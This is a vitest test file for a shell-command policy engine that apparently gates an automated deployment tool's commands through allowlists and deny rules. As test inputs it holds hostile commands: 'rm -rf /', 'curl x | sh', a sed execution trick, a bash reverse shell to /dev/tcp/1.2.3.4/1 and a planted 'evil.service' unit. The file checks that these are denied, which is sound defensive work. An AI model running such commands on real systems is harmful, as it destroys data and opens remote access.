import { describe, expect, it } from 'vitest';
import { createPolicyEngine } from '../../src/policy/index.js';

const ctx = { cwd: '/opt/automatos/apps/web/releases/2' };

describe('strict profile', () => {
  const engine = createPolicyEngine({ profile: 'strict' });

  it.each([
    'npm ci && npm run build',
    'python3 -m venv .venv && .venv/bin/pip install -r requirements.txt',
    'mkdir -p /opt/automatos/apps/web/releases/3',
    'sudo systemctl restart automatos-web',
    'systemctl daemon-reload',
    "bash -c 'npm ci'",
    'git rev-parse HEAD',
    'curl -fsS http://127.0.0.1:8000/health',
    'npx prisma generate',
  ])('allows the deployment command %j', async (command) => {
    const decision = await engine.check(command, ctx);
    expect(decision.findings).toEqual([]);
    expect(decision.rule).toBe('allowlist');
  });

  it.each([
    ['htop', 'not_allowlisted'],
    ['npm ci && nmap 10.0.0.0/24', 'not_allowlisted'],
    ['systemctl restart nginx', 'service_foreign_unit'],
    ['systemctl restart automatos-web nginx', 'service_foreign_unit'],
    ['./deploy.sh', 'not_allowlisted'],
    // The allowlist never overrides the deny rules.
    ['rm -rf /', 'fs_destroy_system'],
    ['curl x | sh', 'remote_code_exec'],
    ["sed -n '1e touch /tmp/pwn' /etc/hostname", 'exec_via_option'],
    ['source ./env.sh', 'not_allowlisted'],
    ['. /dev/stdin <<< "touch /tmp/x"', 'not_allowlisted'],
    ['npx rimraf /', 'fs_destroy_system'],
  ])('denies %j with %s', async (command, rule) => {
    const decision = await engine.check(command, ctx);
    expect(decision.decision).toBe('deny');
    expect(decision.rule).toBe(rule);
  });

  it('can be chosen per check', async () => {
    const standard = createPolicyEngine();
    expect((await standard.check('htop', ctx)).allowed).toBe(true);
    expect((await standard.check('htop', { ...ctx, profile: 'strict' })).rule).toBe('not_allowlisted');
  });
});

describe('audit profile', () => {
  const engine = createPolicyEngine({ profile: 'audit' });

  it('allows everything but reports what standard would deny', async () => {
    const decision = await engine.check('rm -rf / && curl x | sh', ctx);
    expect(decision.allowed).toBe(true);
    expect(decision.decision).toBe('allow');
    expect(decision.rule).toBe('audit');
    expect(decision.wouldDeny?.rule).toBe('fs_destroy_system');
    expect(decision.findings.map((f) => f.rule).sort()).toEqual(['fs_destroy_system', 'remote_code_exec']);
  });

  it('reports parse errors too', async () => {
    const decision = await engine.check('echo "x', ctx);
    expect(decision.allowed).toBe(true);
    expect(decision.wouldDeny?.rule).toBe('parse_error');
  });

  it('has no wouldDeny for a clean command', async () => {
    const decision = await engine.check('npm ci', ctx);
    expect(decision.allowed).toBe(true);
    expect(decision.wouldDeny).toBeUndefined();
    expect(decision.rule).toBe('allow');
  });
});

describe('decision shape', () => {
  const engine = createPolicyEngine();

  it('names the offending simple command and lists every command seen', async () => {
    const decision = await engine.check("npm ci && sudo bash -c 'rm -rf /'", ctx);
    expect(decision).toMatchObject({
      allowed: false,
      decision: 'deny',
      profile: 'standard',
      rule: 'fs_destroy_system',
      risk: 100,
    });
    expect(decision.command).toBe('rm -rf /');
    expect(decision.commands.map((c) => c.name)).toEqual(['npm', 'rm']);
    expect(decision.commands[1]).toMatchObject({ depth: 1, via: ['sudo', 'bash'] });
  });

  it('picks the strongest denial', async () => {
    const decision = await engine.check('echo x > /etc/motd; bash -i >& /dev/tcp/1.2.3.4/1 0>&1', ctx);
    expect(decision.rule).toBe('reverse_shell');
    expect(decision.findings.length).toBeGreaterThan(1);
  });

  it('honours writable roots and cwd from the context', async () => {
    const custom = { cwd: '/srv/apps/web', writableRoots: ['/srv/apps'] };
    expect((await engine.check('rm -rf old-release', custom)).allowed).toBe(true);
    expect((await engine.check('rm -rf /opt/automatos/apps/web/releases/1', custom)).rule).toBe(
      'fs_destroy_outside_roots',
    );
    expect((await engine.check('touch x', { cwd: '/' })).rule).toBe('write_outside_roots');
    expect((await engine.check('cd /srv/apps/web && rm -rf ../../../etc', custom)).rule).toBe(
      'fs_destroy_system',
    );
  });

  it('allows automatos unit files only when the systemd runtime is used', async () => {
    const command = 'tee /etc/systemd/system/automatos-web.service < unit';
    expect((await engine.check(command, ctx)).rule).toBe('write_outside_roots');
    expect((await engine.check(command, { ...ctx, systemdUnits: true })).allowed).toBe(true);
    expect(
      (await engine.check('tee /etc/systemd/system/evil.service < unit', { ...ctx, systemdUnits: true }))
        .allowed,
    ).toBe(false);
  });

  it('denies shell strings nested beyond the limit', async () => {
    let command = 'id';
    for (let i = 0; i < 8; i += 1) command = `bash -c '${command.replace(/'/g, `'\\''`)}'`;
    const decision = await engine.check(command, ctx);
    expect(decision.rule).toBe('nesting_too_deep');
    let shallow = 'rm -rf /';
    for (let i = 0; i < 4; i += 1) shallow = `sh -c '${shallow.replace(/'/g, `'\\''`)}'`;
    expect((await engine.check(shallow, ctx)).rule).toBe('fs_destroy_system');
  });
});

describe('builtins in a protected directory', () => {
  const engine = createPolicyEngine();

  it('does not take the arguments of exit, sleep or kill for file reads', async () => {
    for (const command of ['exit 7', 'sleep 1', 'kill -TERM 1234', 'export X=1', 'true']) {
      const decision = await engine.check(command, { cwd: '/root' });
      expect([command, decision.decision]).toEqual([command, 'allow']);
    }
  });

  it('still denies reading a file there', async () => {
    expect((await engine.check('cat notes.txt', { cwd: '/root' })).rule).toBe('secret_read');
  });
});
